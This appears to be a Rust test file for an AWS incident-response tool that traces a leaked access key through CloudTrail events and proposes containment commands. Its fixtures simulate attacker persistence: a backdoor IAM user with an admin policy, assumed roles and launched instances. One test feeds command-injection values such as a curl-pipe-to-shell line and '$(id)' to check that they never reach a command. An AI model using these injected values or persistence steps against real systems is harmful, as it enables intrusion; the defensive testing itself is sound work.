//! Calls in CloudTrail's own shape, some by an attacker who chooses names.
#![expect(clippy::unwrap_used, reason = "tests")]

use serde_json::{Value, json};

use super::*;
use crate::target::{Resource, Target, kind};

const KEY: &str = "AKIAIOSFODNN7EXAMPLE";
const BACKDOOR_KEY: &str = "AKIAI44QH8DHBEXAMPLE";

fn target(resource: Resource) -> Target {
    Target {
        account: "123456789012".into(),
        region: "eu-west-1".into(),
        partition: "aws".into(),
        resource,
    }
}

fn leaked_key() -> Suspect {
    let resource = Resource::AccessKey(kind::AccessKey {
        key_id: KEY.into(),
        user_name: Some("build-server".into()),
        user_id: None,
    });
    Suspect::new(&target(resource), Some("build-server".into()))
}

/// An event as `LookupEvents` gives it; minutes tell the order.
fn event(minute: u32, key: &str, source: &str, name: &str, request: Value, response: Value) -> Value {
    json!({
        "eventVersion": "1.11",
        "userIdentity": {
            "type": "IAMUser", "principalId": "AIDACKCEVSQ6C2EXAMPLE", "accountId": "123456789012",
            "arn": "arn:aws:iam::123456789012:user/build-server",
            "accessKeyId": key, "userName": "build-server",
        },
        "eventTime": format!("2026-03-01T12:{minute:02}:00Z"),
        "eventSource": source,
        "eventName": name,
        "awsRegion": "us-east-1",
        "sourceIPAddress": "198.51.100.7",
        "userAgent": "aws-cli/2.15.0",
        "requestParameters": request,
        "responseElements": response,
        "eventID": format!("{source}/{name}/{minute}/{key}"),
        "readOnly": response.is_null(),
        "eventType": "AwsApiCall",
        "managementEvent": true,
        "recipientAccountId": "123456789012",
    })
}

fn iam(minute: u32, name: &str, request: Value, response: Value) -> Value {
    event(minute, KEY, "iam.amazonaws.com", name, request, response)
}

fn create_user(minute: u32, name: &str) -> Value {
    let user = json!({ "user": { "path": "/", "userName": name, "userId": "AIDACKCEVSQ6C3EXAMPLE" } });
    iam(minute, "CreateUser", json!({ "userName": name }), user)
}

fn create_key(minute: u32, user: &str, key: &str) -> Value {
    let made = json!({ "accessKey": { "userName": user, "accessKeyId": key, "status": "Active" } });
    iam(minute, "CreateAccessKey", json!({ "userName": user }), made)
}

fn assume(minute: u32, key: &str, role_arn: &str, session_key: &str) -> Value {
    event(
        minute,
        key,
        "sts.amazonaws.com",
        "AssumeRole",
        json!({ "roleArn": role_arn, "roleSessionName": "s" }),
        json!({ "credentials": { "accessKeyId": session_key, "expiration": "Mar 1, 2026, 1:00:00 PM" },
                "assumedRoleUser": { "arn": "arn:aws:sts::123456789012:assumed-role/deploy/s" } }),
    )
}

fn calls(events: &[Value]) -> Vec<Call> {
    events
        .iter()
        .map(|event| Call::read(&event.to_string()).unwrap())
        .collect()
}

fn investigate(mut suspect: Suspect, events: &[Value]) -> Investigation {
    let calls = calls(events);
    for call in &calls {
        suspect.learn(call);
    }
    let scope = Scope {
        from: "2026-02-28T12:00:00Z".parse().unwrap(),
        to: "2026-03-01T13:00:00Z".parse().unwrap(),
        regions: vec!["eu-west-1".into(), "us-east-1".into()],
        incomplete: vec![],
        contacts: vec![],
    };
    Investigation::of(&suspect, scope, &calls, &playbooks())
}

fn playbooks() -> Playbooks {
    Playbooks::from_table(
        "access-key\tiam.deactivate-access-key\tleaked-access-key\nuser\tiam.deny-user\tleaked-access-key\n\
         role\tiam.revoke-role-sessions\tcompromised-role\ninstance\tec2.isolate-instance\tcompromised-instance\n",
    )
}

fn commands(found: &Investigation) -> Vec<String> {
    found.proposals.iter().filter_map(Proposal::command).collect()
}

#[test]
fn a_backdoor_user_and_its_key_are_proposed_once_each_with_what_they_follow_from() {
    let found = investigate(
        leaked_key(),
        &[
            create_user(1, "helper"),
            create_key(2, "helper", BACKDOOR_KEY),
            iam(
                3,
                "AttachUserPolicy",
                json!({ "userName": "helper", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess" }),
                json!({}),
            ),
            // What the key did to its own user is contained already.
            iam(
                4,
                "PutUserPolicy",
                json!({ "userName": "build-server", "policyName": "p" }),
                json!({}),
            ),
        ],
    );
    assert_eq!(
        commands(&found),
        [
            "backstop run leaked-access-key --target arn:aws:iam::123456789012:user/helper --mode approve",
            "backstop run leaked-access-key --target AKIAI44QH8DHBEXAMPLE --mode approve",
        ]
    );
    let [user, _] = found.proposals.as_slice() else {
        unreachable!("two")
    };
    assert_eq!(user.what, "deny user helper everything");
    assert_eq!(
        user.because,
        [
            "2026-03-01T12:01:00Z made user helper, from 198.51.100.7 (CreateUser)",
            "2026-03-01T12:03:00Z gave a policy to user helper, from 198.51.100.7 (AttachUserPolicy)",
        ]
    );
    assert_eq!(found.notable.len(), 4);
    assert_eq!(
        found.by_call.get("iam:CreateUser"),
        Some(&Count { calls: 1, failed: 0 })
    );
}

#[test]
fn roles_and_instances_are_proposed_and_a_role_elsewhere_is_somebody_elses() {
    let instances = json!({ "instancesSet": { "items": [{ "instanceId": "i-0123456789abcdef0" }, { "instanceId": "i-0123456789abcdef1" }] } });
    let found = investigate(
        leaked_key(),
        &[
            assume(
                1,
                KEY,
                "arn:aws:iam::123456789012:role/ops/deploy",
                "ASIAIOSFODNN7EXAMPL1",
            ),
            assume(
                2,
                KEY,
                "arn:aws:iam::111122223333:role/deploy",
                "ASIAIOSFODNN7EXAMPL2",
            ),
            event(3, KEY, "ec2.amazonaws.com", "RunInstances", json!({}), instances),
        ],
    );
    assert_eq!(
        commands(&found),
        [
            "backstop run compromised-role --target arn:aws:iam::123456789012:role/deploy --mode approve",
            "backstop run compromised-instance --target arn:aws:ec2:eu-west-1:123456789012:instance/i-0123456789abcdef0 --mode approve",
            "backstop run compromised-instance --target arn:aws:ec2:eu-west-1:123456789012:instance/i-0123456789abcdef1 --mode approve",
        ]
    );
    let elsewhere = found.proposals.iter().find(|it| it.command().is_none()).unwrap();
    assert!(
        elsewhere.what.contains("owner of account 111122223333"),
        "{elsewhere:?}"
    );
}

#[test]
fn what_came_of_the_key_is_followed_and_the_users_own_work_is_not() {
    let own_work = event(
        5,
        "AKIAOTHEROTHEROTHER1",
        "iam.amazonaws.com",
        "CreateUser",
        json!({ "userName": "colleague" }),
        json!({}),
    );
    let mut by_role = create_user(6, "helper");
    *by_role.pointer_mut("/userIdentity").unwrap() = json!({
        "type": "AssumedRole", "accessKeyId": "ASIAIOSFODNN7EXAMPL1",
        "sessionContext": { "sessionIssuer": { "type": "Role", "userName": "deploy" } },
    });
    let events = [
        assume(
            1,
            KEY,
            "arn:aws:iam::123456789012:role/deploy",
            "ASIAIOSFODNN7EXAMPL1",
        ),
        own_work,
        by_role,
    ];
    let found = investigate(leaked_key(), &events);
    assert_eq!(found.calls, 2);
    assert!(
        commands(&found)
            .iter()
            .any(|command| command.contains(":user/helper ")),
        "{found:?}"
    );
    assert!(
        !commands(&found)
            .iter()
            .any(|command| command.contains("colleague"))
    );
}

#[test]
fn only_so_many_keys_are_followed_and_the_rest_is_counted() {
    let mut suspect = leaked_key();
    for call in calls(
        &(0..20)
            .map(|n| {
                assume(
                    n,
                    KEY,
                    "arn:aws:iam::123456789012:role/deploy",
                    &format!("ASIAIOSFODNN7EXAM{n:03}"),
                )
            })
            .collect::<Vec<_>>(),
    ) {
        suspect.learn(&call);
    }
    assert_eq!(
        (suspect.lookups().len(), suspect.keys_left_out()),
        (MOST_KEYS, 13)
    );
}

#[test]
fn a_role_is_looked_for_by_who_took_it_and_its_sessions_are_followed() {
    let mut suspect = Suspect::new(
        &target(Resource::Role(kind::Role {
            role_name: "deploy".into(),
            role_id: None,
        })),
        None,
    );
    assert_eq!(
        suspect.lookups(),
        [Lookup::Resource("arn:aws:iam::123456789012:role/deploy".into())].into()
    );
    let taken = assume(
        1,
        "AKIAOTHEROTHEROTHER1",
        "arn:aws:iam::123456789012:role/deploy",
        "ASIAIOSFODNN7EXAMPL1",
    );
    suspect.learn(calls(&[taken]).first().unwrap());
    assert!(
        suspect
            .lookups()
            .contains(&Lookup::Key("ASIAIOSFODNN7EXAMPL1".into()))
    );
}

#[test]
fn a_federated_session_gives_away_who_made_it() {
    let suspect = Suspect::new(
        &target(Resource::FederatedUser(kind::FederatedUser {
            key_id: "ASIAIOSFODNN7EXAMPLE".into(),
            name: "visitor".into(),
        })),
        None,
    );
    let mut listed = event(
        1,
        "ASIAIOSFODNN7EXAMPLE",
        "s3.amazonaws.com",
        "ListBuckets",
        json!(null),
        json!(null),
    );
    *listed.pointer_mut("/userIdentity").unwrap() = json!({
        "type": "FederatedUser", "accessKeyId": "ASIAIOSFODNN7EXAMPLE",
        "sessionContext": { "sessionIssuer": { "type": "IAMUser", "userName": "broker" } },
    });
    let found = investigate(suspect, &[listed]);
    assert_eq!(
        commands(&found),
        ["backstop run leaked-access-key --target arn:aws:iam::123456789012:user/broker --mode approve"]
    );
}

#[test]
fn what_failed_is_told_and_proposes_nothing() {
    let mut denied = create_user(1, "helper");
    let fields = denied.as_object_mut().unwrap();
    fields.insert("errorCode".into(), "AccessDenied".into());
    fields.insert("responseElements".into(), Value::Null);
    let found = investigate(leaked_key(), &[denied]);
    assert_eq!((found.calls, found.failed, found.proposals.len()), (1, 1, 0));
    let [line] = found.notable.as_slice() else {
        unreachable!("one")
    };
    assert!(
        line.contains("made user helper, which failed (AccessDenied)"),
        "{line}"
    );
}

/// CloudTrail records what was asked for, also what IAM would never allow: no command may come of it.
#[test]
fn a_hostile_name_never_reaches_a_command() {
    for name in [
        "x; curl http://203.0.113.7 | sh",
        "x$(id)",
        "x`id`",
        "x --mode auto",
        "x\n--reason",
        "x'\"",
        "x\u{202e}resu",
        "../root",
        "x&",
        "",
        "*",
    ] {
        let mut events = vec![
            create_user(1, name),
            create_key(2, name, BACKDOOR_KEY),
            create_key(3, "helper", name),
        ];
        events.push(iam(4, "CreateRole", json!({ "roleName": name }), json!({})));
        events.push(event(
            5,
            KEY,
            "ec2.amazonaws.com",
            "RunInstances",
            json!({}),
            json!({ "instancesSet": { "items": [{ "instanceId": name }] } }),
        ));
        let found = investigate(leaked_key(), &events);
        for command in commands(&found) {
            let is_safe = |c: char| c.is_ascii_alphanumeric() || " +=,.@_-:/".contains(c);
            assert!(command.chars().all(is_safe), "{command}");
            assert!(name.is_empty() || !command.contains(name), "{name}: {command}");
            assert_eq!(command.split(' ').count(), 7, "{command}");
        }
        for line in found
            .notable
            .iter()
            .chain(found.proposals.iter().map(|it| &it.what))
        {
            assert!(
                !line.chars().any(char::is_control) && !line.contains('\u{202e}'),
                "{line:?}"
            );
        }
    }
}

/// The longest names, in characters of four bytes, in every field that a caller can choose, many times over.
#[test]
fn what_is_kept_fits_a_record_whatever_was_done() {
    let long = |n: u32| format!("{n}{}", "\u{1f980}".repeat(200));
    let events: Vec<Value> = (0..900)
        .map(|n| {
            let mut event = create_user(n % 60, &long(n));
            let fields = event.as_object_mut().unwrap();
            for field in ["eventID", "sourceIPAddress", "userAgent"] {
                fields.insert(field.into(), long(n).into());
            }
            event
        })
        .collect();
    let found = investigate(leaked_key(), &events);
    let bytes = serde_json::to_string(&found).unwrap().len();
    assert!(bytes <= MOST_BYTES + 2_000, "{bytes}");
    assert_eq!(found.calls, 900);
    assert!(!found.timeline.is_empty() && found.proposals.len() == MOST_PROPOSALS);
    for cut in ["things to do", "notable calls", "had no room"] {
        assert!(
            found.incomplete.iter().any(|line| line.contains(cut)),
            "{cut}: {:?}",
            found.incomplete
        );
    }
}

#[test]
fn what_is_no_event_is_named() {
    for (text, missing) in [("{}", "eventTime"), ("[]", "eventTime"), ("x", "expected value")] {
        let error = Call::read(text).unwrap_err().to_string();
        assert!(error.contains(missing), "{error}");
    }
}

mod reading;
